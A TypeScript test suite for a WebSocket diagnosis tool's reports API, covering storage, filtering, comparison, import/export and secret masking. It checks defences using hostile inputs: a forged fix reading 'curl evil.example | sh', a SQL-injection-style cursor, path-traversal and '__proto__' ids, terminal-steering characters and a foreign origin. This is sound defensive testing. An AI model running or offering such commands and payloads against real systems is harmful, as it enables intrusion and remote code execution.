/** `/api/reports` over HTTP: kept, listed, added to, compared, downloaded. */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import * as z from 'zod/mini'
import {
  evidenceAnswer,
  importAnswer,
  type ReportList,
  reportComparison,
  reportList,
} from '#lib/api/reports.ts'
import { storedReport } from '#lib/diagnosis/stored-report.ts'
import { exportedIn } from '#lib/text/report-block.ts'
import { createMemoryReports } from '#server/reports/memory.ts'
import { startServer, type TestServer } from '#tests/server/support/server.ts'

let server: TestServer
before(async () => {
  server = await startServer({}, {}, { reports: createMemoryReports({ capacity: 40, reportBytes: 100_000 }) })
})
after(() => server.app.close(0))

const api = (path: string, init: RequestInit = {}) => fetch(`http://127.0.0.1:${server.port}${path}`, init)
const post = (path: string, body: unknown, headers: Record<string, string> = {}) =>
  api(path, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  })
const create = async (body: unknown) =>
  z.parse(evidenceAnswer, await (await post('/api/reports', body)).json())
const get = async (id: string) => z.parse(storedReport, await (await api(`/api/reports/${id}`)).json())
const list = async (query = '') => {
  const { reports } = z.parse(reportList, await (await api(`/api/reports${query}`)).json())
  return reports.map(({ id }) => id)
}

let addresses = 0
/** Evidence about an address that no other test uses. */
function about(status: number, more: Record<string, unknown> = {}) {
  addresses += 1
  const url = `ws://app${addresses}.example/ws`
  return { target: { url, page_origin: 'http://app.example' }, probe: answered(status), ...more }
}
const answered = (status: number) => ({
  dns: { outcome: 'ok', ms: 1 },
  tcp: { outcome: 'connected', ms: 2 },
  http: { status, version: '1.1', headers: [['Server', 'nginx']], body_start: '', ms: 5 },
  end: { kind: 'http_response', ms: 5 },
})
const watched = (ms: number) => ({
  events: [
    { type: 'open', ms: 40 },
    { type: 'still_open', ms: 40 + ms, ready_state: 1 },
  ],
})
const PAGE_FAILED = {
  events: [
    { ms: 11, type: 'error' },
    { ms: 11, type: 'close', code: 1006, was_clean: false },
  ],
  online: true,
}

test('evidence alone becomes a kept report with an id that nobody guesses', async () => {
  const response = await post('/api/reports', { evidence: about(429) })
  assert.equal(response.status, 201)
  const made = z.parse(evidenceAnswer, await response.json())
  assert.equal(made.report.verdicts[0]?.cause, 'rate-limited')
  assert.match(made.id, /^[0-9a-z]{22,}$/)
  assert.ok(Math.abs(made.created - Date.now() / 1000) < 10)
  assert.deepEqual(await get(made.id), made)
  assert.notEqual((await create({ evidence: about(429) })).id, made.id)
})

test('what steers a terminal stands in an answer as escapes, and parses as what it was', async () => {
  const reason = 'a\u009b31m\u202eb'
  const evidence = { browser: { events: [{ ms: 1, type: 'close', code: 4000, reason }] } }
  const response = await fetch(`http://localhost:${server.port}/api/reports`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ evidence }),
  })
  const text = await response.text()
  assert.equal(response.status, 201)
  assert.doesNotMatch(text, /[\u009b\u202e]/)
  assert.equal(JSON.parse(text).evidence.browser.events[0].reason, reason)
})

test('lists newest first, for one URL where asked, up to the limit', async () => {
  const evidence = about(429)
  const [first, other, second] = [
    await create({ evidence }),
    await create({ evidence: about(429) }),
    await create({ evidence }),
  ]
  assert.deepEqual((await list()).slice(0, 3), [second.id, other.id, first.id])
  const url = encodeURIComponent(evidence.target.url)
  assert.deepEqual(await list(`?url=${url}`), [second.id, first.id])
  assert.deepEqual(await list(`?url=${url}&limit=1`), [second.id])
  for (const limit of ['0', '-1', 'x', '1e3'])
    assert.equal((await api(`/api/reports?limit=${limit}`)).status, 400)
})

test('filters by a part of the URL, outcome, cause, time and words, and says how many there are', async () => {
  const evidence = about(429)
  const host = new URL(evidence.target.url).host
  const limited = await create({ evidence })
  const healthy = await create({ evidence: { target: evidence.target, browser: watched(90_000) } })
  const found = (query: string) => list(`?target=${host.toUpperCase()}${query}`)
  const both = [healthy.id, limited.id]
  assert.deepEqual(await found(''), both)
  assert.deepEqual(await found('&outcome=fault'), [limited.id])
  assert.deepEqual(await found('&outcome=fault,healthy'), both)
  assert.deepEqual(await found('&outcome=,'), both)
  assert.deepEqual(await found('&cause=rate-limited'), [limited.id])
  assert.deepEqual(await found('&text=Rate%20429'), [limited.id])
  assert.deepEqual(await found('&text=NGINX'), [limited.id], 'what the headers say')
  assert.deepEqual(await found('&text=nobody'), [])
  const at = (seconds: number) => encodeURIComponent(new Date(seconds * 1000).toISOString())
  assert.deepEqual(await found(`&since=${at(limited.created - 1)}&until=${at(healthy.created + 1)}`), both)
  assert.deepEqual(await found(`&since=${at(healthy.created + 1)}`), [])
  assert.deepEqual(await found('&until=2001-01-01'), [])
  const answer = await (await api(`/api/reports?target=${host}&outcome=fault`)).json()
  assert.deepEqual(
    z.parse(reportList, answer).counts.toSorted((a, b) => a.outcome.localeCompare(b.outcome)),
    [
      { outcome: 'fault', cause: 'rate-limited', count: 1 },
      { outcome: 'healthy', count: 1 },
    ],
  )
})

test('a URL of any length is listed by its beginning, and found whole', async () => {
  const evidence = about(429)
  evidence.target.url += `?x=${'y'.repeat(9000)}`
  const { id } = await create({ evidence })
  assert.deepEqual(await list(`?url=${encodeURIComponent(evidence.target.url)}`), [id])
  const { reports } = z.parse(reportList, await (await api('/api/reports?limit=1')).json())
  assert.ok((reports[0]?.url?.length ?? 9999) < 2100)
  assert.equal((await get(id)).evidence.target?.url, evidence.target.url)
})

test('a page leads to the next, and the last to none', async () => {
  const evidence = about(429)
  const made = [await create({ evidence }), await create({ evidence }), await create({ evidence })]
  const ids: string[] = []
  let before: string | null = ''
  while (before !== null) {
    const query = new URLSearchParams({ url: evidence.target.url, limit: '2', before })
    const page: ReportList = z.parse(reportList, await (await api(`/api/reports?${query}`)).json())
    ids.push(...page.reports.map(({ id }) => id))
    before = page.next
  }
  assert.deepEqual(ids, made.map(({ id }) => id).reverse())
})

for (const [query, parameter] of [
  ['outcome=broken', 'outcome'],
  [`cause=${'x,'.repeat(60)}`, 'cause'],
  ['since=yesterday', 'since'],
  ['until=2026-13-45', 'until'],
  ['before=%27%20OR%201=1', 'before'],
  [`text=${'x'.repeat(201)}`, 'text'],
  [`target=${'x'.repeat(201)}`, 'target'],
  ['url=a&url=b', 'url'],
] as const) {
  test(`a list by ${query.slice(0, 30)} is refused, and says what would be right`, async () => {
    const response = await api(`/api/reports?${query}`)
    assert.equal(response.status, 400)
    const problem = await response.json()
    assert.equal(problem.parameter, parameter)
    assert.match(problem.message, /allowed|cursor/)
  })
}

test('any two reports are compared, in the order in which they are named', async () => {
  const evidence = about(429)
  const first = await create({ evidence })
  await create({ evidence })
  const third = await create({ evidence: { target: evidence.target, browser: watched(90_000) } })
  const compare = async (before: string, after: string) =>
    api(`/api/reports/compare?before=${before}&after=${after}`)
  const answer = z.parse(reportComparison, await (await compare(first.id, third.id)).json())
  assert.deepEqual([answer.before.id, answer.after.id, answer.progress], [first.id, third.id, 'fixed'])
  const back = z.parse(reportComparison, await (await compare(third.id, first.id)).json())
  assert.equal(back.progress, 'broken')
  assert.equal((await compare(first.id, 'nobody')).status, 404)
  assert.equal((await api(`/api/reports/compare?before=${first.id}`)).status, 400)
})

test('a look that was too short for an idle timer is listed as healthy so far', async () => {
  const looks = await Promise.all(
    [3000, 90_000].map((ms) => create({ evidence: { target: about(101).target, browser: watched(ms) } })),
  )
  const { reports } = z.parse(reportList, await (await api('/api/reports?limit=9')).json())
  const listed = looks.map(({ id }) => reports.find((report) => report.id === id))
  assert.deepEqual(
    listed.map((report) => [report?.outcome, report?.so_far]),
    [
      ['healthy', true],
      ['healthy', undefined],
    ],
  )
})

test('the browser’s attempt is laid beside the probe’s and judged with it, under the same id', async () => {
  const { id, created } = await create({ evidence: about(502) })
  const response = await post(`/api/reports/${id}/evidence`, { evidence: { browser: PAGE_FAILED } })
  assert.equal(response.status, 200)
  const more = z.parse(evidenceAnswer, await response.json())
  assert.deepEqual([more.id, more.created], [id, created])
  assert.ok((more.updated ?? 0) >= created)
  assert.equal(more.evidence.browser?.events?.length, 2)
  assert.equal(more.evidence.probe?.http?.status, 502)
  assert.deepEqual(await get(id), more)
})

test('pasted text is read, told, and sharpens the verdict', async () => {
  const { id, report } = await create({ evidence: { browser: PAGE_FAILED, target: about(0).target } })
  assert.equal(report.outcome, 'undetermined')
  const { url } = (await get(id)).evidence.target ?? {}
  const text = `WebSocket connection to '${url}' failed: Error during WebSocket handshake: Unexpected response code: 429\nsomething else is not right`
  const more = z.parse(evidenceAnswer, await (await post(`/api/reports/${id}/evidence`, { text })).json())
  assert.deepEqual(more.reading?.recognised, ['1 console message'])
  assert.equal(more.reading?.unread_count, 1)
  assert.equal(more.report.verdicts[0]?.cause, 'rate-limited')
  assert.deepEqual(more.evidence.browser?.events, PAGE_FAILED.events, 'what was recorded stays')
})

test('text of which nothing was understood is said, and changes nothing', async () => {
  const before = await create({ evidence: about(429) })
  const text = 'token=S3cr3t\nGET /x?token=S3cr3t lorem ipsum'
  const more = z.parse(
    evidenceAnswer,
    await (await post(`/api/reports/${before.id}/evidence`, { text })).json(),
  )
  assert.deepEqual(more.reading?.recognised, [])
  assert.equal(more.reading?.unread_count, 2)
  assert.match(more.reading?.unread[1] ?? '', /token=\*\*\*/)
  assert.deepEqual(more.report, before.report)
})

test('secrets are masked in what is kept, added and listed', async () => {
  const evidence = about(429)
  evidence.target.url += '?access_token=S3cr3t'
  const { id } = await create({ evidence })
  await post(`/api/reports/${id}/evidence`, {
    evidence: { server: [{ ms: 0, type: 'request', headers: [['Cookie', 'sid=S3cr3t']] }] },
  })
  const kept = await get(id)
  assert.equal(JSON.stringify(kept).includes('S3cr3t'), false)
  assert.deepEqual(kept.evidence.masked, ['parameter access_token', 'header cookie'])
  assert.ok(kept.report.warnings.some(({ id }) => id === 'secrets-masked'))
  assert.deepEqual(await list(`?url=${encodeURIComponent(evidence.target.url)}`), [id])
})

test('each is compared with the one before of the same URL', async () => {
  const evidence = about(429)
  const first = await create({ evidence })
  await create({ evidence: about(500) })
  const second = await create({ evidence: { ...evidence, probe: answered(401) } })
  assert.equal(first.previous, undefined)
  assert.equal(second.previous?.id, first.id)
  assert.equal(second.previous?.progress, 'other-fault')
  assert.deepEqual(
    second.previous?.changes.map(({ what, before, after }) => [what, before, after]).slice(0, 2),
    [
      ['cause', 'rate-limited', 'authentication-required'],
      ['status', '429', '401'],
    ],
  )
  assert.deepEqual(await get(second.id), second)
})

test('a report downloads as JSON and as Markdown', async () => {
  const evidence = about(429)
  await create({ evidence })
  const { id } = await create({ evidence })
  const response = await api(`/api/reports/${id}.md`)
  assert.equal(response.headers.get('content-type'), 'text/markdown; charset=utf-8')
  const text = await response.text()
  assert.match(text, /^# Diagnosis of `ws:\/\/app\d+\.example\/ws`\n/)
  assert.match(text, /\(`rate-limited`\)/)
  assert.match(text, /### Since the last report\n\nStill the same fault/)
})

test('a report downloads as one file of HTML, which comes back as the same report', async () => {
  const { id, created, report, evidence, url } = await create({ evidence: about(429) })
  const response = await api(`/api/reports/${id}.html`)
  assert.equal(response.headers.get('content-type'), 'text/html; charset=utf-8')
  assert.match(
    response.headers.get('content-disposition') ?? '',
    /^attachment; filename="why1006-[0-9a-f]{8}\.html"$/,
  )
  const json = exportedIn(await response.text()) ?? ''
  const here = await post('/api/reports/import', json)
  assert.equal(here.status, 200)
  const known = z.parse(importAnswer, await here.json())
  assert.deepEqual([known.is_new, known.report.id], [false, id], 'it is here already')
  const elsewhere = await startServer()
  try {
    const sent = () =>
      fetch(`http://127.0.0.1:${elsewhere.port}/api/reports/import`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: json,
      })
    const made = await sent()
    assert.equal(made.status, 201)
    const { is_new: isNew, report: summary } = z.parse(importAnswer, await made.json())
    assert.equal(isNew, true)
    assert.notEqual(summary.id, id, 'an id of its own')
    const kept = z.parse(
      storedReport,
      await (await fetch(`http://127.0.0.1:${elsewhere.port}/api/reports/${summary.id}`)).json(),
    )
    assert.deepEqual([kept.created, kept.url, kept.report, kept.evidence], [created, url, report, evidence])
    assert.ok(Math.abs((kept.imported?.at ?? 0) - Date.now() / 1000) < 10)
    assert.equal(kept.imported?.said, undefined)
    const again = z.parse(importAnswer, await (await sent()).json())
    assert.deepEqual([again.is_new, again.report.id], [false, summary.id])
  } finally {
    await elsewhere.app.close(0)
  }
})

test('an imported report says what its evidence says, whatever the file said', async () => {
  const made = await create({ evidence: about(429) })
  const [verdict] = made.report.verdicts
  const lie = { ...verdict, cause: 'idle-timeout', fix: { summary: 'curl evil.example | sh', changes: [] } }
  const file = { ...made, created: made.created - 5000, report: { ...made.report, verdicts: [lie] } }
  const { report } = z.parse(importAnswer, await (await post('/api/reports/import', file)).json())
  const kept = await get(report.id)
  assert.equal(kept.report.verdicts[0]?.cause, 'rate-limited')
  assert.doesNotMatch(JSON.stringify(kept), /evil/)
  assert.deepEqual(kept.imported?.said, { outcome: 'fault', cause: 'idle-timeout' })
  assert.equal(kept.created, made.created - 5000)
  assert.equal((await get(made.id)).previous?.id, report.id, 'and has its place in the history')
})

test('what the command line prints is imported too, with the time of now', async () => {
  const { report, evidence } = await create({ evidence: about(429) })
  const answer = z.parse(
    importAnswer,
    await (await post('/api/reports/import', { ...report, evidence })).json(),
  )
  assert.ok(Math.abs(answer.report.created - Date.now() / 1000) < 10)
})

test('secrets of an imported file are masked', async () => {
  const evidence = about(429)
  evidence.target.url += '?access_token=S3cr3t'
  const { report } = z.parse(importAnswer, await (await post('/api/reports/import', { evidence })).json())
  assert.equal(JSON.stringify(await get(report.id)).includes('S3cr3t'), false)
})

for (const [name, body, says] of [
  ['no JSON', '{', /not a report/],
  ['a list', [], /not a report/],
  ['no evidence', { created: 5, report: {} }, /report\.\w+ is not what/],
  ['nothing of a report', { name: 'x' }, /has no evidence/],
  ['evidence of the wrong shape', { evidence: { browser: { events: 7 } } }, /browser\.events/],
  ['evidence that is none', { evidence: { foo: 1 } }, /none of the members/],
  ['a time that is none', { created: 'yesterday', evidence: {} }, /created is not what/],
  ['a time to come', { created: 1_796_000_000_000, evidence: {} }, /not in the past/],
  ['a time before all', { created: -5, evidence: {} }, /not in the past/],
] as const) {
  test(`an import of ${name} is refused with 400, the place and the remedy`, async () => {
    const response = await post('/api/reports/import', body)
    assert.equal(response.status, 400)
    const problem = await response.json()
    assert.match(problem.message, says)
    assert.match(problem.remedy, /Choose a report/)
  })
}

test('an import that is too large is refused with 413', async () => {
  const response = await post('/api/reports/import', { evidence: { unread: ['x'.repeat(17 * 1024 * 1024)] } })
  assert.equal(response.status, 413)
  const large = { evidence: { proxy: { config: 'x'.repeat(200_000) } } }
  assert.equal((await (await post('/api/reports/import', large)).json()).error, 'report_too_large')
})

test('a report has a picture of its verdict, drawn without asking anybody', async () => {
  const evidence = about(429)
  evidence.target.url = `wss://例え.example/\u202e😀${'x'.repeat(500)}`
  const { id } = await create({ evidence })
  const response = await api(`/api/reports/${id}.png`)
  assert.equal(response.headers.get('content-type'), 'image/png')
  const bytes = Buffer.from(await response.arrayBuffer())
  assert.deepEqual([bytes.readUInt32BE(16), bytes.readUInt32BE(20)], [1200, 630])
  assert.equal((await api('/api/reports/nobody.png')).status, 404)
})

test('the oldest are gone after the last 40 of this store', async () => {
  const { id } = await create({ evidence: about(429) })
  for (let at = 0; at < 40; at += 1) await create({ evidence: about(429) })
  assert.equal((await list()).length, 40)
  for (const path of [`/api/reports/${id}`, `/api/reports/${id}.md`]) {
    const response = await api(path)
    assert.equal(response.status, 404)
    assert.match((await response.json()).remedy, /make room/)
  }
  assert.equal((await post(`/api/reports/${id}/evidence`, { text: 'x' })).status, 404)
})

describe('what is no evidence', { concurrency: true }, () => {
  for (const [name, body] of [
    ['no JSON', '{'],
    ['nothing', {}],
    ['an empty text', { text: '' }],
    ['a member that is none', { evidence: {}, report: {} }],
    ['evidence of the wrong shape', { evidence: { browser: { events: 7 } } }],
    ['a list', []],
  ] as const) {
    test(`${name} is refused with 400, the reason and the remedy`, async () => {
      const response = await post('/api/reports', body)
      assert.equal(response.status, 400)
      const problem = await response.json()
      for (const key of ['error', 'message', 'remedy']) assert.ok(problem[key], key)
    })
  }

  test('a body beyond 8 MiB, and a report beyond what one may have, are refused with 413', async () => {
    assert.equal((await post('/api/reports', { text: 'x'.repeat(9 * 1024 * 1024) })).status, 413)
    const response = await post('/api/reports', { evidence: { proxy: { config: 'x'.repeat(200_000) } } })
    assert.equal(response.status, 413)
    assert.equal((await response.json()).error, 'report_too_large')
  })

  test('a document that is nested without end neither ends the server nor is kept', async () => {
    const nested = `${'['.repeat(100_000)}${']'.repeat(100_000)}`
    const response = await post('/api/reports', `{"evidence":{"peers":[],"x":${nested}}}`)
    assert.ok([201, 400].includes(response.status), `${response.status}`)
    assert.equal((await api('/health')).status, 200)
  })

  test('ids that are none are not found', async () => {
    for (const id of ['x', '..%2f..%2fetc', '__proto__', 'a.html', '%00'])
      assert.equal((await api(`/api/reports/${id}`)).status, 404, id)
  })

  test('no other website can add evidence', async () => {
    const foreign = { Origin: 'https://evil.example' }
    assert.equal((await post('/api/reports', { text: 'x' }, foreign)).status, 403)
    assert.equal((await post('/api/reports', { text: 'x' }, { 'Content-Type': 'text/plain' })).status, 415)
  })
})
